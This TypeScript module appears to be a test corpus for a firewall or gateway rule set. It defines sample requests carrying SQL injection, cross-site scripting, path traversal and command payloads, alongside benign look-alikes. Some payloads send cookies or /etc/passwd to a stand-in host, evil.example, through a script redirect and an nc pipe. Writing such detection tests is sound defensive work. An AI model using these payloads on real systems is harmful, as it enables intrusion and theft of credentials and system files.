import type { Planned } from '../gateway.ts';

/** One request of a corpus; the mark stands in its path. */
export interface Sample {
  readonly name: string;
  readonly request: (mark: string) => Planned;
}

const FORM = 'application/x-www-form-urlencoded';

const inQuery = (name: string, value: string): Sample => ({
  name: `${name} in the query`,
  request: (mark) => ({ path: `/api/v1/search/${mark}?q=${encodeURIComponent(value)}` }),
});

const inForm = (name: string, value: string): Sample => ({
  name: `${name} in a form`,
  request: (mark) => ({
    path: `/api/v1/comments/${mark}`,
    method: 'POST',
    headers: { 'content-type': FORM },
    body: `title=hello&text=${encodeURIComponent(value)}`,
  }),
});

const inJson = (name: string, value: string): Sample => ({
  name: `${name} in JSON`,
  request: (mark) => ({
    path: `/api/v1/comments/${mark}`,
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ title: 'hello', text: value }),
  }),
});

const inHeader = (name: string, header: string, value: string): Sample => ({
  name: `${name} in ${header}`,
  request: (mark) => ({ path: `/api/v1/search/${mark}`, headers: { [header]: value } }),
});

/** SQL injection, in the forms that every rule set knows. */
export const SQL_INJECTION: readonly Sample[] = [
  inQuery('tautology', "1' OR '1'='1"),
  inQuery('union', '1 UNION SELECT username, password FROM users--'),
  inQuery('stacked statement', "1'; DROP TABLE users; --"),
  inQuery('time-based', "1' AND SLEEP(5)#"),
  inForm('union', "x' UNION ALL SELECT NULL, table_name FROM information_schema.tables--"),
  inJson('tautology', "admin' OR 1=1--"),
  inHeader('tautology', 'cookie', "id=1' OR '1'='1"),
];

/** Cross-site scripting. */
export const CROSS_SITE_SCRIPTING: readonly Sample[] = [
  inQuery('script element', '<script>alert(1)</script>'),
  inQuery('event handler', '<img src=x onerror=alert(1)>'),
  inQuery('javascript URL', '<a href="javascript:alert(document.cookie)">x</a>'),
  inForm('script element', '"><script>document.location="https://evil.example/?c="+document.cookie</script>'),
  inJson('event handler', '<svg onload=alert(1)>'),
  inHeader('script element', 'referer', 'https://x.example/"><script>alert(1)</script>'),
];

/** What else a core rule set has to know: traversal, a scanner's name, a command, a file of the system. */
export const OTHER_ATTACKS: readonly Sample[] = [
  inQuery('path traversal', '../../../../etc/passwd'),
  inHeader('scanner', 'user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'),
  inQuery('shell command', '; cat /etc/passwd | nc evil.example 4444'),
  inForm('remote file', 'http://evil.example/shell.php?cmd=id;cat /etc/shadow'),
];

/** Requests as people and programs send them: with words, marks and names that only look alike. */
export const BENIGN: readonly Sample[] = [
  inQuery('words', 'select the best union of workers from the list'),
  inQuery('an Irish name', "Sinéad O'Connor"),
  inQuery('a comparison', 'price less than 100 and more than 50'),
  inQuery('a date and a time', '2025-12-28T10:30:45Z'),
  inQuery('e-mail address', 'jane.doe@example.org'),
  inQuery('identifier', '5f9b1c9e-8d2a-4f7b-9a51-1c1f0c6b7d11'),
  inForm('a comment', 'Great service, I would recommend it to my friends! See you in May.'),
  inForm('prices', 'It costs 20 € (25 with tips) & is worth it.'),
  inJson('a comment', 'The drop-off table by the window was updated; please delete my old booking.'),
  inJson('line breaks and quotes', 'She said "hello" and left.\nThen it rained.'),
  inHeader('a browser', 'user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'),
  inHeader('a session', 'cookie', 'theme=dark; sid=3f2a9c7e-1b4d-4c3e-9f7a-2d5b8e1c0a64'),
];

/** Null bytes where a request can carry them, the raw one aside. */
export const NULL_BYTES: readonly Sample[] = [
  { name: 'in the path', request: (mark) => ({ path: `/api/v1/files/${mark}%00.txt` }) },
  { name: 'in the query', request: (mark) => ({ path: `/api/v1/files/${mark}?name=a%00b` }) },
  {
    name: 'in a form',
    request: (mark) => ({
      path: `/api/v1/files/${mark}`,
      method: 'POST',
      headers: { 'content-type': FORM },
      body: 'name=a%00b',
    }),
  },
];
